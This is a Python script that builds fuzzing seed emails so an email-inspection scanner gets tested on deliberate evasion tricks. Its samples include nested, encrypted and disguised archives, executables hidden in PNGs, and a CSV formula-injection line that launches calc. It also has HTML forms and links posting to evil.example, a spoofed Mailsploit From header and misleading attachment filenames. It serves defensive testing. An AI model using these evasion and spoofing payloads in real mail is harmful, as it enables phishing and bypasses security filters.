#!/usr/bin/env python3
"""Seeds for the evasion paths of inspection (scripts/fuzz; issue 12).

fuzz-seeds.py gives libFuzzer real files of each format; this gives it the tricks a sender uses
on purpose, so that a corpus started from nothing reaches those paths within minutes instead of
hours: archives made by the real tools (zip nested 20 deep, Zip64, encrypted zip and 7z, a
cabinet, tar, a zip behind a program), BinHex, a PNG with a zip after its end or in a
chunk, opaque and detached S/MIME signatures (openssl cms), and hand-written messages for the
text paths (hidden HTML, style sheets that hide, HTML forms, PDF form scripts, format=flowed, encoded classification headers, CSV formulas, yEnc,
uuencode, calendar attachments, message/partial, a message sent under another type, every
filename form, an RTF object, Mailsploit's encoded From).

    fuzz-evasion-seeds.py OUTDIR

Needs zip, 7z, gcab, binhex and openssl (scripts/install-deps installs them); a tool
that is missing only leaves its seed out.
"""
import base64
import os
import struct
import subprocess
import sys
import tempfile
import zlib

MAX_LEN = 65536
HEADER = (
    "From: Carol <carol@partner.example>\r\n"
    "To: bob@london.union.example\r\n"
    "Subject: {subject}\r\n"
    "Date: Fri, 04 Dec 2026 10:00:00 +0000\r\n"
    "Message-ID: <{name}@partner.example>\r\n"
    "MIME-Version: 1.0\r\n"
)


def b64(data: bytes) -> str:
    return base64.encodebytes(data).decode("ascii").replace("\n", "\r\n")


def attachment(name: str, data: bytes, content_type: str = "application/octet-stream") -> str:
    return (
        f'--b\r\nContent-Type: {content_type}; name="{name}"\r\n'
        f'Content-Disposition: attachment; filename="{name}"\r\n'
        "Content-Transfer-Encoding: base64\r\n\r\n" + b64(data)
    )


def multipart(name: str, parts: list, headers: str = "") -> str:
    return (
        HEADER.format(subject=name, name=name) + headers
        + 'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
        + "--b\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n" + "".join(parts) + "--b--\r\n"
    )


def single(name: str, content_type: str, body: str, headers: str = "", subject: str = "") -> str:
    return HEADER.format(subject=subject or name, name=name) + headers + f"Content-Type: {content_type}\r\n\r\n" + body


def run(*command: str, cwd: str, stdout=None) -> bool:
    """Runs a tool; False when it is missing or fails (its seed is then left out)."""
    try:
        subprocess.run(command, cwd=cwd, check=True, stdout=stdout or subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        return True
    except (OSError, subprocess.CalledProcessError):
        return False


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def made_files(work: str) -> dict:
    """Files made by the real tools, by the name they are attached under."""
    program = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00This program cannot be run in DOS mode.\r\n"
    with open(os.path.join(work, "prog.exe"), "wb") as handle:
        handle.write(program)
    with open(os.path.join(work, "minutes.txt"), "w") as handle:
        handle.write("Board minutes - STRICTLY CONFIDENTIAL\n")
    run("zip", "-q", "plain.zip", "prog.exe", "minutes.txt", cwd=work)
    # Nested 20 deep: deep nesting is inspected, not only refused.
    if run("cp", "plain.zip", "n0.zip", cwd=work):
        for depth in range(1, 21):
            run("zip", "-q", f"n{depth}.zip", f"n{depth - 1}.zip", cwd=work)
    run("zip", "-q", "-fz", "zip64.zip", "prog.exe", cwd=work)
    run("zip", "-q", "-P", "secret", "encrypted.zip", "prog.exe", cwd=work)
    run("7z", "a", "-bd", "-y", "-psecret", "-mhe=on", "encrypted.7z", "prog.exe", cwd=work)
    run("tar", "czf", "plain.tgz", "prog.exe", "minutes.txt", cwd=work)
    run("gcab", "-c", "-z", "plain.cab", "prog.exe", cwd=work)
    with open(os.path.join(work, "prog.hqx"), "wb") as handle:
        run("binhex", "-d", "prog.exe", cwd=work, stdout=handle)
    files = {}
    for name in ["plain.zip", "n20.zip", "zip64.zip", "encrypted.zip", "encrypted.7z", "plain.tgz", "plain.cab", "prog.hqx"]:
        path = os.path.join(work, name)
        if os.path.isfile(path) and os.path.getsize(path) > 0:
            with open(path, "rb") as handle:
                files[name] = handle.read()
    png = (
        b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
        + png_chunk(b"IDAT", zlib.compress(b"\x00\x00\x00\x00")) + png_chunk(b"IEND", b"")
    )
    if "plain.zip" in files:
        # A zip after the picture's end, and one inside a private chunk; a zip behind a program.
        files["photo.png"] = png + files["plain.zip"]
        files["chart.png"] = png[:-12] + png_chunk(b"zIPx", files["plain.zip"]) + png[-12:]
        files["setup.exe"] = program + files["plain.zip"]
    return files


def signed_messages(work: str) -> dict:
    """An opaque (signed-data) and a detached S/MIME signature over a part with a PDF."""
    if not run("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "key.pem", "-out", "cert.pem",
               "-subj", "/CN=Carol", "-days", "1", cwd=work):
        return {}
    with open(os.path.join(work, "inner.txt"), "w", newline="") as handle:
        handle.write('Content-Type: application/pdf; name="a.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQK\r\n')
    messages = {}
    for name, flags in [("opaque", ["-nodetach", "-binary"]), ("detached", [])]:
        if not run("openssl", "cms", "-sign", *flags, "-in", "inner.txt", "-signer", "cert.pem", "-inkey", "key.pem",
                   "-outform", "SMIME", "-out", name + ".smime", cwd=work):
            continue
        with open(os.path.join(work, name + ".smime")) as handle:
            text = handle.read().replace("\r\n", "\n").replace("\n", "\r\n")
        messages["smime-" + name] = HEADER.format(subject=name, name=name) + text
    return messages


def text_messages() -> dict:
    """Hand-written messages for the text and header paths."""
    inner = single("inner", "text/plain", "Strictly private and confidential\r\n", subject="RESTRICTED: board")
    messages = {
        "html-hidden": single(
            "html-hidden", "text/html; charset=utf-8",
            '<html><head><style>.h{display:none}</style></head><body><p>Hello</p>'
            '<span style="display:none">CONFI</span>DENTIAL<bdo dir="rtl">LAITNEDIFNOC</bdo>'
            '<div style="font-size:0">Strictly</div><p>Priv<!-- x -->ate and Conf&shy;idential</p>'
            '<a href="http://0x7f.1/login">https://union.example/login</a>'
            '<a href="https://union.example@evil.example/">x</a>'
            '<form action="https://evil.example/post"><input name=p></form><script>alert(1)</script></body></html>\r\n'),
        "html-style-sheet": single(
            "html-style-sheet", "text/html; charset=utf-8",
            '<html><head><style>/* c */ @media screen { @supports (x:y) { p .h, #i, span[data-x~="a" i]:not(.q) '
            '{ display:none !important } } } .a{content:"}"} .\\68 {opacity:0} .b{font:12px \'x\n} '
            '.c{overflow:hidden; .d{height:0}} .e::after{display:none} @font-face{src:url(x)} @import "y";'
            '</style></head><body><p>CONFI<span class="h">zz</span>DENTIAL</p><span id=i data-x="a b">x</span>'
            '<p style="position:absolute;left:-9999px;clip:rect(0 0 0 0);transform:scale(0);color:rgba(0 0 0/0)">RESTRICTED</p>'
            '</body></html>\r\n'),
        "flowed": single(
            "flowed", "text/plain; charset=utf-8; format=flowed; delsp=yes",
            "This is STRICT \r\nLY CONFIDEN \r\nTIAL and embar \r\ngoed until Monday.\r\n> quoted \r\n>> deeper\r\n-- \r\nsig\r\n"),
        "encoded-headers": single(
            "encoded-headers", "text/plain; charset=utf-8", "Body\r\n",
            headers="X-Classification: =?utf-8?B?Q09ORklERU5USUFM?=\r\n"
                    "Sensitivity: =?iso-8859-1?Q?Company-Confidential?=\r\n"
                    "MSIP_Label_1234_Name: Highly Confidential \\ HR\r\n",
            subject="=?utf-8?B?U3RyaWN0bHkgQ29uZmlkZW50aWFs?= =?utf-8?Q?_board_minutes?="),
        "mailsploit": single(
            "mailsploit", "text/plain", "hi\r\n",
            headers='Reply-To: "Branch Secretary" <sec@gmail.example>\r\nSender: (Branch Secretary) x@gmail.example\r\n'
        ).replace("From: Carol <carol@partner.example>",
                  "From: =?utf-8?b?cG90dXNAd2hpdGVob3VzZS5nb3YiIDx0ZXN0Pg==?==?utf-8?Q?=00=0A?= <x@evil.example>"),
        "csv": multipart("csv", [attachment("sheet.csv",
            b'name,amount\r\n=HYPERLINK("http://evil.example","click"),1\r\n+cmd|\'/c calc\'!A0,2\r\n'
            b'=CONCAT("CONFI","DENTIAL"),3\r\n"=_xlfn.TEXTJOIN("""",TRUE,MID(""xCONFIx"",2,5),SUBSTITUTE(""DENxTIAL"",""x"",""""))",4\r\n'
            b'=PROPER(REPT("ab",3))&LEFT(UPPER("restricted"),4)&CHAR(67),5\r\n', "text/csv")]),
        "pdf-form": multipart("pdf-form", [attachment("claim.pdf",
            b"%PDF-1.4\n1 0 obj << /Type /Catalog /AcroForm << /Fields [ << /FT /Tx /T (Hours) /AA << "
            b"/F << /S /JavaScript /JS (AFNumber_Format\\(2, 0, 0, 0, \"\\342\\202\\254\", true\\);) >> "
            b"/C << /S/JavaScript/JS(AFSimple_Calculate\\(\"SUM\", new Array \\(\"A\", \"B\"\\)\\);) >> "
            b"/K << /S /JavaScript /JS <FEFF00410046005300700065006300690061006C005F0046006F0072006D00610074002800300029003B> >> "
            b">> >> ] >> /Names << /JavaScript 3 0 R >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n", "application/pdf")]),
        "html-form-file": multipart("html-form-file", [attachment("login.html",
            b'<html><head><base href="https:/login.example.net/"></head><body>'
            b'<form data-action="/x" action = " ht&Tab;tps:\\\\evil.example/c"><input name=p>'
            b'<button formaction=HTTPS:evil.example/b>Go</button></form>'
            b'<a href="https://uni\non-example.org/">x</a></body></html>', "text/html")]),
        "uuencode": single("uuencode", "text/plain", "begin 644 run.exe\r\n(35J0`&%B8V1E\r\n`\r\nend\r\n"),
        "yenc": single("yenc", "text/plain", "=ybegin line=128 size=4 name=run.exe\r\nw\x84\xba*\r\n=yend size=4\r\n"),
        "calendar": single(
            "calendar", "text/calendar; method=REQUEST",
            "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:CONFIDENTIAL pay talks\r\n"
            "ATTACH;FMTTYPE=application/x-msdownload;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=run.exe:TVqQAA==\r\n"
            "END:VEVENT\r\nEND:VCALENDAR\r\n"),
        "partial": single("partial", 'message/partial; id="abc@x"; number=1; total=2', "From: a@b\r\nSubject: part\r\n\r\nhalf\r\n"),
        "names": multipart("names", [
            '--b\r\nContent-Type: application/octet-stream; name="report.pdf"; name="run.exe"\r\n'
            "Content-Disposition: attachment; filename=\"a.txt\"; filename*=UTF-8''%72%75%6E.scr; "
            'filename*0="pay"; filename*1=".js"\r\nContent-Transfer-Encoding: base64\r\n\r\n' + b64(b"MZ\x90\x00"),
            attachment("=?utf-8?B?cnVuLmV4ZQ==?=", b"MZ\x90\x00")]),
        "rtf-object": multipart("rtf-object", [attachment("a.rtf",
            b"{\\rtf1\\ansi{\\*\\generator x}{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata "
            b"01050000020000000800000050616b6167650000000000000000000400000041424344}}\\u2014? CONFIDENTIAL\\par}",
            "application/rtf")]),
    }
    # A message sent under another type, or none: still a message.
    for declared in ["application/octet-stream", "text/plain", None]:
        name = "message-as-" + (declared or "none").replace("/", "-")
        content_type = f'Content-Type: {declared}; name="fwd.eml"\r\n' if declared else ""
        messages[name] = multipart(name, [f'--b\r\n{content_type}Content-Disposition: attachment; filename="fwd.eml"\r\n\r\n' + inner])
    return messages


def main() -> int:
    if len(sys.argv) != 2:
        print(__doc__.strip(), file=sys.stderr)
        return 2
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    with tempfile.TemporaryDirectory() as work:
        messages = {"file-" + name: multipart("file-" + name, [attachment(name, data)]) for name, data in made_files(work).items()}
        messages.update(signed_messages(work))
    messages.update(text_messages())
    written = 0
    for name, text in messages.items():
        data = text.encode("latin-1")
        if len(data) > MAX_LEN:
            continue
        with open(os.path.join(out, "evasion-" + name + ".eml"), "wb") as handle:
            handle.write(data)
        written += 1
    print(f"fuzz-evasion-seeds: {written} seeds in {out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
